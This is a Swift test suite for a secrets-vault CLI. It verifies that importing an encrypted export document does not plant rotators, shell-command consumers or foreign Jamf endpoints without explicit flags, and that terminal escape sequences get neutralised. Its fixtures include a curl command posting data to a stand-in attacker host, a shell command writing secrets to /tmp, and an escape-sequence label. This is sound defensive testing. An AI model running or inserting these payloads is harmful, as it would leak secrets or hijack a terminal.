import Foundation
import ProcessHarness
import Testing

/// Issue 12, attack 3: an export document is unauthenticated data — anyone can write one and
/// encrypt it to the admin's public key with the stock `age` — so `import` must not let it make
/// the admin act. The hostile documents here are written by Python's `json` and encrypted by the
/// stock `age`, not by this project's code.
@Suite("Imports are data, not code")
struct ImportTrustTests {
    static let tenant = "contoso.onmicrosoft.com"
    /// The planted hooks (never run: they are only ever printed).
    static let plantedCommand = "sh -c 'cat > /tmp/secrets-planted-by-import'"
    static let plantedApply = "curl -s --data-binary @- https://collect.evil.example/payload"
    static let plantedJamfURL = "https://jamf.evil.example"

    /// Writes the export document for `mode` with Python's `json`, claiming `vaultID`:
    /// - `planted`: two new apps, `planted` (Entra ID, the vault's rotator, a `command=` consumer,
    ///   a secret due within days — the demonstrated attack) and `planted-jamf` (a Jamf Pro API
    ///   client on a foreign server, a `jamf-pro-intune` consumer with an API client and an apply
    ///   command): every kind of action;
    /// - `existing`: the vault's own `jamf-intune` app (`existingAppID`) with a `command=` consumer added;
    /// - `escape`: one new app whose label carries a terminal escape sequence, with a rotator.
    static let documentScript = #"""
        import json, sys, time, uuid
        vault_id, mode, existing_app_id, command, apply, jamf_url = sys.argv[1:7]
        now = int(time.time())
        def iso(t): return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))
        def app(label, app_id, issuer="entra-id", rotator=None, jamf=None, consumers=(), credentials=()):
            entry = {"label": label, "appId": app_id, "tenant": "contoso.onmicrosoft.com", "cloud": "global",
                     "issuer": issuer, "consumers": list(consumers), "lifetimeSeconds": 180 * 86400,
                     "rotateBeforeSeconds": 30 * 86400, "overlapSeconds": 7 * 86400, "tags": [], "notes": "",
                     "credentials": list(credentials)}
            if rotator is not None: entry["rotator"] = rotator
            if jamf is not None: entry["jamfProIssuer"] = jamf
            return entry
        due = {"keyId": str(uuid.uuid4()), "hint": "Pl4", "created": iso(now - 86400), "validFrom": iso(now - 86400),
               "expires": iso(now + 3 * 86400), "state": "current", "displayName": None, "retireAfter": None,
               "value": "Pl4nted~value-not-a-real-secret-0000000000"}
        if mode == "planted":
            apps = [app("planted", str(uuid.uuid4()), rotator="graph-rotator",
                        consumers=[{"kind": "command", "target": command}], credentials=[due]),
                    app("planted-jamf", str(uuid.uuid4()), issuer="jamf-pro-api-client",
                        jamf={"url": jamf_url, "integrationID": "7"},
                        consumers=[{"kind": "jamf-pro-intune", "target": jamf_url, "apiClient": "planted-jamf",
                                    "canaryComputerID": "42", "applyCommand": apply}])]
        elif mode == "existing":
            apps = [app("jamf-intune", existing_app_id, rotator="graph-rotator",
                        consumers=[{"kind": "jamf-pro-intune", "target": "https://contoso.jamfcloud.com"},
                                   {"kind": "command", "target": command}])]
        else:
            apps = [app("esc\u001b[2J\u001b]0;owned\u0007", str(uuid.uuid4()), rotator="graph-rotator")]
        print(json.dumps({"format": "secrets-export", "version": 1, "exportedAt": iso(now), "vaultID": vault_id, "apps": apps}))
        """#

    /// A vault with a rotator and `jamf-intune` (Entra ID, rotated by `graph-rotator`, one
    /// `jamf-pro-intune` consumer); returns `jamf-intune`'s app ID.
    @discardableResult
    private func makeVault(_ sandbox: Sandbox) throws -> String {
        try sandbox.initVault()
        try sandbox.addApp("graph-rotator")
        try sandbox.addSecret("graph-rotator", value: Sandbox.secretValue(), expires: "300d")
        let appID = Sandbox.guid()
        try sandbox.succeed([
            "app", "add", "jamf-intune", "--app-id", appID, "--tenant", Self.tenant, "--issuer", "entra-id",
            "--rotator", "graph-rotator", "--consumer", "jamf-pro-intune=https://contoso.jamfcloud.com",
        ])
        try sandbox.addSecret("jamf-intune", value: Sandbox.secretValue(), expires: "90d")
        return appID
    }

    /// The hostile document for `mode`, encrypted by the stock `age` to the vault's admin
    /// recipient (which anyone may read from `recipients list`), so `import` needs no flag to open it.
    private func hostileDocument(
        _ sandbox: Sandbox, mode: String, vaultID: String = String(repeating: "00", count: 16), existingAppID: String = ""
    ) throws -> String {
        let json = try ProcessRunner.run(
            try Tools.python(),
            arguments: ["-c", Self.documentScript, vaultID, mode, existingAppID, Self.plantedCommand, Self.plantedApply, Self.plantedJamfURL],
            timeout: Tools.timeout)
        try #require(json.succeeded, "\(json)")
        let recipients = try sandbox.decode([RecipientJSON].self, from: try sandbox.succeed(["recipients", "list", "--json"]))
        let admin = try #require(recipients.first { $0.role == "admin" }?.recipient)
        let file = sandbox.directory.path("hostile-\(mode).age")
        let encrypted = try ProcessRunner.run(
            try Tools.age(), arguments: ["-r", admin, "-o", file], input: json.standardOutput, timeout: Tools.timeout)
        try #require(encrypted.succeeded, "\(encrypted)")
        return file
    }

    /// Everything `import` could change, as the CLI shows it: apps with their rotators and
    /// consumers, credentials, and the audit log's length.
    private func state(of sandbox: Sandbox) throws -> (apps: Data, list: Data, auditEntries: Int) {
        let apps = try sandbox.succeed(["app", "list", "--json"]).standardOutput
        let list = try sandbox.succeed(["list", "--json"]).standardOutput
        let log = try sandbox.decode([LogEntryJSON].self, from: try sandbox.succeed(["log", "--json"]))
        return (apps, list, log.count)
    }

    private func expectUnchanged(
        _ sandbox: Sandbox, since before: (apps: Data, list: Data, auditEntries: Int), sourceLocation: SourceLocation = #_sourceLocation
    ) throws {
        let after = try state(of: sandbox)
        #expect(after.apps == before.apps, "app list --json changed", sourceLocation: sourceLocation)
        #expect(after.list == before.list, "list --json changed", sourceLocation: sourceLocation)
        #expect(after.auditEntries == before.auditEntries, "the audit log grew", sourceLocation: sourceLocation)
    }

    @Test("a hand-written document from another vault that plants a rotator and a command is refused; the vault is unchanged")
    func foreignDocumentWithActionsIsRefused() throws {
        let sandbox = try Sandbox("import-trust-foreign")
        defer { sandbox.remove() }
        try makeVault(sandbox)
        let file = try hostileDocument(sandbox, mode: "planted")
        let before = try state(of: sandbox)

        let refused = try sandbox.fail(["import", file], status: 65, mentioning: "another vault")
        for fragment in ["--from-other-vault", "--allow-actions", "\"planted\"", "rotator", "consumers[0].target (command)", "nothing was imported"] {
            #expect(refused.errorOutput.contains(fragment), "stderr should mention \(fragment): \(refused)")
        }
        try expectUnchanged(sandbox, since: before)
        try sandbox.fail(["app", "show", "planted"], status: 66, mentioning: "planted")
        // No rotation can pick up what was refused.
        let dryRun = try sandbox.succeed(["rotate", "--due", "--dry-run"])
        #expect(!dryRun.output.contains("planted"), "\(dryRun)")
    }

    @Test("--from-other-vault alone does not let actions in: each app and field is named")
    func otherVaultWithoutAllowActionsIsRefused() throws {
        let sandbox = try Sandbox("import-trust-other-vault")
        defer { sandbox.remove() }
        try makeVault(sandbox)
        let file = try hostileDocument(sandbox, mode: "planted")
        let before = try state(of: sandbox)

        let refused = try sandbox.fail(["import", file, "--from-other-vault"], status: 65, mentioning: "--allow-actions")
        #expect(!refused.errorOutput.contains("another vault"), "\(refused)")
        for fragment in [
            "app \"planted\": rotator", "consumers[0].target (command)",
            "app \"planted-jamf\": jamfProIssuer.url", "consumers[0].target (jamf-pro-intune URL)",
            "consumers[0].apiClient", "consumers[0].applyCommand",
        ] {
            #expect(refused.errorOutput.contains(fragment), "stderr should name \(fragment): \(refused)")
        }
        try expectUnchanged(sandbox, since: before)
        try sandbox.fail(["app", "show", "planted-jamf"], status: 66, mentioning: "planted-jamf")
    }

    @Test("with --from-other-vault and --allow-actions the document is imported, every action printed first")
    func bothFlagsImportAndPrintEveryAction() throws {
        let sandbox = try Sandbox("import-trust-allowed")
        defer { sandbox.remove() }
        try makeVault(sandbox)
        let file = try hostileDocument(sandbox, mode: "planted")

        let imported = try sandbox.succeed(["import", file, "--from-other-vault", "--allow-actions"])
        #expect(imported.output.contains("Imported 2 app(s) and 1 credential(s)"), "\(imported)")
        let lines = imported.errorOutput.split(separator: "\n").map(String.init)
        for (app, field, value) in [
            ("planted", "rotator", "graph-rotator"),
            ("planted", "consumers[0].target (command)", Self.plantedCommand),
            ("planted-jamf", "jamfProIssuer.url", Self.plantedJamfURL),
            ("planted-jamf", "consumers[0].target (jamf-pro-intune URL)", Self.plantedJamfURL),
            ("planted-jamf", "consumers[0].apiClient", "planted-jamf"),
            ("planted-jamf", "consumers[0].applyCommand", Self.plantedApply),
        ] {
            #expect(lines.contains { $0.contains("app \"\(app)\": \(field) = \(value)") }, "stderr should list \(app) \(field): \(imported)")
        }
        #expect(lines.allSatisfy { $0.hasPrefix("secrets: ") }, "\(imported)")
        let apps = try sandbox.decode([AppJSON].self, from: try sandbox.succeed(["app", "list", "--json"]))
        #expect(Set(apps.map(\.label)) == ["graph-rotator", "jamf-intune", "planted", "planted-jamf"])
    }

    @Test("a refused import leaves an existing app's consumers as they were")
    func consumersUnchangedAfterRefusal() throws {
        let sandbox = try Sandbox("import-trust-consumers")
        defer { sandbox.remove() }
        let appID = try makeVault(sandbox)
        let file = try hostileDocument(sandbox, mode: "existing", existingAppID: appID)
        let consumersBefore = try sandbox.decode(AppJSON.self, from: try sandbox.succeed(["app", "show", "jamf-intune", "--json"])).consumers
        #expect(consumersBefore.map(\.kind) == ["jamf-pro-intune"])
        let before = try state(of: sandbox)

        try sandbox.fail(["import", file], status: 65, mentioning: "another vault")
        try sandbox.fail(["import", file, "--from-other-vault"], status: 65, mentioning: "consumers[1].target (command)")
        try sandbox.fail(["import", file, "--from-other-vault", "--skip-conflicts"], status: 65, mentioning: "--allow-actions")

        let after = try sandbox.decode(AppJSON.self, from: try sandbox.succeed(["app", "show", "jamf-intune", "--json"]))
        #expect(after.consumers.map(\.kind) == consumersBefore.map(\.kind))
        #expect(after.consumers.map(\.target) == consumersBefore.map(\.target))
        try expectUnchanged(sandbox, since: before)
    }

    @Test("an export of this very vault is unauthenticated too: its own actions need --allow-actions")
    func sameVaultRoundTripNeedsAllowActions() throws {
        let sandbox = try Sandbox("import-trust-round-trip")
        defer { sandbox.remove() }
        try makeVault(sandbox)
        let keyFile = sandbox.directory.path("backup-key.txt")
        let publicKey = try Tools.generateKey(at: keyFile)
        let exportFile = sandbox.directory.path("backup.age")
        try sandbox.succeed(["export", "--recipient", publicKey, "-o", exportFile])
        let before = try state(of: sandbox)

        let refused = try sandbox.fail(["import", exportFile, "--decrypt-identity", keyFile], status: 65, mentioning: "--allow-actions")
        #expect(!refused.errorOutput.contains("another vault"), "\(refused)")
        #expect(refused.errorOutput.contains("app \"jamf-intune\": rotator"), "\(refused)")
        try expectUnchanged(sandbox, since: before)

        let imported = try sandbox.succeed(["import", exportFile, "--decrypt-identity", keyFile, "--allow-actions"])
        #expect(imported.output.contains("Imported 0 app(s) and 0 credential(s); 2 already present"), "\(imported)")
        #expect(imported.errorOutput.contains("app \"jamf-intune\": consumers[0].target (jamf-pro-intune URL) = https://contoso.jamfcloud.com"),
                "\(imported)")
    }

    @Test("control characters in a hostile document reach the terminal neutralised")
    func controlCharactersNeutralised() throws {
        let sandbox = try Sandbox("import-trust-escape")
        defer { sandbox.remove() }
        try makeVault(sandbox)
        let file = try hostileDocument(sandbox, mode: "escape")
        let before = try state(of: sandbox)

        let refused = try sandbox.fail(["import", file, "--from-other-vault"], status: 65, mentioning: "rotator")
        #expect(!refused.standardError.contains(0x1B) && !refused.standardError.contains(0x07), "\(refused)")
        #expect(refused.errorOutput.contains("esc\\u{1B}[2J"), "\(refused)")
        try expectUnchanged(sandbox, since: before)
    }

    /// Azure JSON names no vault and holds no actions, so the two flags there are a mistake.
    @Test("--from-azure with --from-other-vault or --allow-actions is a usage error", arguments: ["--from-other-vault", "--allow-actions"])
    func azureRefusesExportFlags(_ flag: String) throws {
        let sandbox = try Sandbox("import-trust-azure")
        defer { sandbox.remove() }
        try sandbox.initVault()
        let azure = try sandbox.directory.write("[]", to: "azure.json")
        let result = try sandbox.run(["import", "--from-azure", azure, "--tenant", Self.tenant, flag])
        #expect(result.exitStatus == 64, "\(result)")
        #expect(result.errorOutput.contains(flag), "\(result)")
        Sandbox.expectOneLineError(result)
    }
}
